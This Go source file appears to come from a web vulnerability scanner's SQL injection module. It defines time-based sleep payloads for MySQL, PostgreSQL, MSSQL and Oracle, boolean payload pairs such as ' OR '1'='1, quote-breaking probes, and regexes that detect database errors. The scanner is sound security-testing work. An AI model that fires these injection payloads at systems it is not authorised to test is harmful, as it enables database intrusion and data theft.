package payloads

import (
	"regexp"
	"strings"
)

// BooleanSQLiTest represents a single test case for Boolean-Based SQLi.
type BooleanSQLiTest struct {
	TruePayload  string
	FalsePayload string
	Description  string
}

// SQLiErrorPatterns are regex patterns to detect database errors in responses.
var SQLiErrorPatterns []*regexp.Regexp

// BooleanSQLiTests contains test cases for the response-diff technique.
var BooleanSQLiTests []BooleanSQLiTest

// SQLiErrorProbes are appended to a value to break the surrounding query syntax.
var SQLiErrorProbes = []string{"'", "\"", "')", "\")", "`", "';", "\\"}

// sqlDelayTemplates are sleep payloads per DBMS, for numeric and string contexts.
var sqlDelayTemplates = []DelayTemplate{
	{Template: "1 or SLEEP(%d)", Platform: "mysql", Description: "MySQL/MariaDB numeric SLEEP"},
	{Template: "1' or SLEEP(%d) and '1'='1", Platform: "mysql", Description: "MySQL/MariaDB string SLEEP"},
	{Template: "1\" or SLEEP(%d) and \"1\"=\"1", Platform: "mysql", Description: "MySQL/MariaDB double-quoted SLEEP"},
	{Template: "1 AND (SELECT 2 FROM (SELECT(SLEEP(%d)))a)", Platform: "mysql", Description: "MySQL/MariaDB subquery SLEEP"},
	{Template: "1 or pg_sleep(%d) is null", Platform: "postgresql", Description: "PostgreSQL numeric pg_sleep"},
	{Template: "1'; SELECT pg_sleep(%d)--", Platform: "postgresql", Description: "PostgreSQL stacked pg_sleep"},
	{Template: "1;waitfor delay '0:0:%d'--", Platform: "mssql", Description: "MSSQL numeric WAITFOR"},
	{Template: "1';waitfor delay '0:0:%d'--", Platform: "mssql", Description: "MSSQL string WAITFOR"},
	{Template: "1 AND 1=dbms_pipe.receive_message('a',%d)", Platform: "oracle", Description: "Oracle DBMS_PIPE"},
}

// SQLDelays returns the SQL injection delay provider.
func SQLDelays() DelayProvider {
	return templateProvider{
		name:      "sqli",
		templates: sqlDelayTemplates,
		aliases: map[string][]string{
			"mariadb":   {"mysql"},
			"postgres":  {"postgresql"},
			"pgsql":     {"postgresql"},
			"sqlserver": {"mssql"},
			"php":       {"mysql"},
			"asp.net":   {"mssql"},
		},
	}
}

func init() {
	patterns := []string{
		`(?i)you have an error in your sql syntax`, `(?i)warning: mysql_fetch_array\(\)`,
		`(?i)unclosed quotation mark after the character string`, `(?i)incorrect syntax near`,
		`(?i)ora-[0-9]{5}:`, `(?i)psycopg2\.errors\.syntaxerror`, `(?i)sqlite3\.sqliteexception`,
		`(?i)Uncaught PDOException:`, `(?i)unrecognized token:`, `(?i)supplied argument is not a valid`,
		`(?i)Microsoft OLE DB Provider for SQL Server`, `(?i)OLE DB provider "SQLNCLI"`,
	}
	for _, p := range patterns {
		SQLiErrorPatterns = append(SQLiErrorPatterns, regexp.MustCompile(p))
	}

	BooleanSQLiTests = []BooleanSQLiTest{
		{TruePayload: "' OR '1'='1", FalsePayload: "' AND '1'='2", Description: "String context with single quotes"},
		{TruePayload: "\" OR \"1\"=\"1", FalsePayload: "\" AND \"1\"=\"2", Description: "String context with double quotes"},
		{TruePayload: "' OR 1=1 -- -", FalsePayload: "' AND 1=2 -- -", Description: "String context with comment"},
		{TruePayload: " OR 1=1", FalsePayload: " AND 1=2", Description: "Numeric context"},
		{TruePayload: " OR 1=1 -- -", FalsePayload: " AND 1=2 -- -", Description: "Numeric context with comment"},
	}
}

// FindSQLError returns the first database error message found in body, or "".
func FindSQLError(body string) string {
	for _, re := range SQLiErrorPatterns {
		if m := re.FindString(body); m != "" {
			return m
		}
	}
	return ""
}

// IsIgnoredParam checks if a parameter should be ignored for injection testing.
func IsIgnoredParam(paramName string) bool {
	ignoredParams := map[string]bool{
		"_csrf_token": true,
		"csrf_token":  true,
		"csrf":        true,
		"token":       true,
		"_token":      true,
		"session_id":  true,
		"session":     true,
		"__cfduid":    true,
	}
	return ignoredParams[strings.ToLower(paramName)]
}

// InferDBType infers the database type from an error message.
func InferDBType(errorEvidence string) string {
	lowerEvidence := strings.ToLower(errorEvidence)
	if strings.Contains(lowerEvidence, "mysql") || strings.Contains(lowerEvidence, "mariadb") || strings.Contains(lowerEvidence, "sql syntax") {
		return "mysql"
	}
	if strings.Contains(lowerEvidence, "ora-") || strings.Contains(lowerEvidence, "oracle") {
		return "oracle"
	}
	if strings.Contains(lowerEvidence, "postgre") || strings.Contains(lowerEvidence, "pg_") || strings.Contains(lowerEvidence, "psycopg") {
		return "postgresql"
	}
	if strings.Contains(lowerEvidence, "mssql") || strings.Contains(lowerEvidence, "sql server") || strings.Contains(lowerEvidence, "ole db") || strings.Contains(lowerEvidence, "quotation mark") {
		return "mssql"
	}
	if strings.Contains(lowerEvidence, "sqlite") {
		return "sqlite"
	}
	return ""
}
